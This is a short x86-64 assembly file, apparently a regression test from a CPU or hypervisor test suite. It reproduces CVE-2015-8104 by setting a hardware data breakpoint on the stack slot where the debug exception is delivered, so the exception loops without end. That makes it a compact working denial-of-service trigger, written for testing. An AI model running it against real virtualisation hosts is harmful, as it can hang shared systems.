; A data breakpoint on the stack where #DB is delivered: its delivery raises the next one, for ever (CVE-2015-8104).

%include "lib.inc"

TSS	equ 0x97040
STACK	equ 0x80000

main:
	mov qword [TSS + 0x24], STACK	; IST 1, for #DB
	mov byte [IDT + 16 + 4], 1
	mov eax, STACK - 8		; the first that a delivery pushes
	mov dr0, rax
	mov ecx, 0x90401		; 8 bytes written there
	mov dr7, rcx
	mov [rax], rbx
	nop
	FAIL "no breakpoint"
